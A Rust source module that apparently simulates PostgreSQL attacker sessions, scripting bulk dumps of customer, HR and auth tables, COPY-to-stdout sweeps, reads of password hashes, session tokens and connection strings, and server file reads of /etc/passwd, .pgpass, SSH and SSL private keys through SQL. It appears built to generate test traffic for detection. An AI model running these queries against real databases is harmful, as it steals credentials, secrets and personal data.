//! Taking what is there: data page by page, whole tables, secrets, files.

use super::{Plan, SECOND, TABLES};
use crate::command::Command;

/// Large reads of personal data, page after page.
pub(super) fn data_exfiltration(plan: &mut Plan<'_>) {
    const VICTIMS: [&str; 7] = [
        "sales.customer",
        "sales.address",
        "auth.account",
        "hr.employee",
        "hr.salary",
        "billing.account",
        "crm.message",
    ];
    let (host, user) = (plan.outside(), plan.person());
    plan.connect(&user, "python3", &host);
    plan.run(
        SECOND,
        4 * SECOND,
        Command::select(
            "~information_schema.tables",
            "SELECT table_schema, table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE'",
        )
        .rows(44),
    );
    for table in VICTIMS {
        let page = plan.random.between(5_000, 50_000);
        for number in 0..plan.random.between(4, 16) {
            let sql = format!(
                "SELECT * FROM {table} ORDER BY 1 LIMIT {page} OFFSET {}",
                number * page
            );
            plan.run(
                SECOND / 5,
                2 * SECOND,
                Command::select(table, sql).rows(page),
            );
        }
    }
}

/// `COPY … TO STDOUT` of one table after another.
pub(super) fn copy_sweep(plan: &mut Plan<'_>) {
    let (host, user) = (plan.outside(), plan.person());
    plan.connect(&user, "psql", &host);
    let first = plan.random.index(12);
    for table in TABLES.iter().skip(first) {
        let sql = match plan.random.below(3) {
            0 => format!("copy (select * from {table}) to stdout with (format csv, header);"),
            _ => format!("COPY {table} TO STDOUT WITH CSV HEADER;"),
        };
        plan.run(SECOND / 3, 3 * SECOND, Command::copy_out(table, sql));
    }
}

/// Password hashes and secrets read.
pub(super) fn credential_read(plan: &mut Plan<'_>) {
    let (host, user) = (plan.outside(), plan.administrator());
    plan.connect(&user, "psql", &host);
    for (relations, sql) in [
        (
            "~pg_catalog.pg_shadow pg_catalog.pg_authid",
            "select usename, passwd from pg_shadow;",
        ),
        (
            "pg_catalog.pg_authid",
            "SELECT rolname, rolpassword FROM pg_catalog.pg_authid WHERE rolpassword IS NOT NULL;",
        ),
        (
            "pg_catalog.pg_user_mapping",
            "select umuser, umoptions from pg_user_mapping;",
        ),
        (
            "pg_catalog.pg_subscription",
            "select subname, subconninfo from pg_subscription;",
        ),
        (
            "~pg_catalog.pg_hba_file_rules",
            "select * from pg_hba_file_rules;",
        ),
        (
            "auth.account",
            "select email, password_hash from auth.account order by id limit 100000;",
        ),
        (
            "auth.session",
            "select account_id, token_hash from auth.session where expires_at > now();",
        ),
    ] {
        plan.run(
            2 * SECOND,
            12 * SECOND,
            Command::select(relations, sql).rows(40),
        );
    }
}

/// Files of the server read through SQL.
pub(super) fn file_read(plan: &mut Plan<'_>) {
    let (host, user) = (plan.outside(), plan.administrator());
    plan.connect(&user, "", &host);
    for sql in [
        "select pg_ls_dir('.');",
        "select pg_read_file('/etc/passwd');",
        "SELECT pg_read_file('pg_hba.conf', 0, 100000);",
        "select pg_read_binary_file('global/pg_control');",
        "select lo_import('/etc/ssl/private/ssl-cert-snakeoil.key');",
        "select encode(lo_get(4242), 'base64');",
        "select * from pg_stat_file('/var/lib/postgresql/.ssh/id_rsa');",
        "select name, size from pg_ls_dir('/var/backups') as t(name), pg_stat_file('/var/backups/' || name);",
    ] {
        plan.run(SECOND, 8 * SECOND, Command::select("", sql));
    }
    let table = "CREATE TABLE pg_temp.lines (line text);";
    plan.run(SECOND, 5 * SECOND, Command::utility("CREATE TABLE", table));
    for path in [
        "/etc/passwd",
        "/proc/self/environ",
        "/var/lib/postgresql/.pgpass",
    ] {
        let sql = format!("COPY pg_temp.lines FROM '{path}';");
        plan.run(SECOND, 5 * SECOND, Command::copy_in("pg_temp.lines", sql));
    }
    plan.run(
        SECOND,
        5 * SECOND,
        Command::select("pg_temp.lines", "SELECT * FROM pg_temp.lines;").rows(60),
    );
}
